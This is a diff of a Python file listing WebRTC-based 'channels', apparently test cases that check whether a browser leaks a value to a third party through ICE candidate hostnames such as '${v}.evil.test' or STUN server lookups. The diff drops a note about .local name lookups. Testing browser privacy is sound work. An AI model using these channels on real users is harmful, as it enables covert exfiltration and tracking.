@@ -54,8 +54,7 @@ CHANNELS = (
             targets=ONLY_THIRD),
     Channel("rtc-direct-name",
             _DIRECT.replace("candidate:1 1 @KIND@", """candidate:1 1 udp 2113937151 ${v}.evil.test 3478 typ host""")
-            .replace('"candidate:1', "`candidate:1").replace('typ host"', "typ host`"), targets=ONLY_THIRD,
-            unseen="only names that end in .local are looked up"),
+            .replace('"candidate:1', "`candidate:1").replace('typ host"', "typ host`"), targets=ONLY_THIRD),
     Channel("rtc-frame", """const w = frame();
       const p = new w.RTCPeerConnection({iceServers: [{urls: `stun:${v}.${HOST}:3478`}]});"""
             'p.createDataChannel("x"); p.setLocalDescription(await p.createOffer())', targets=ONLY_THIRD),
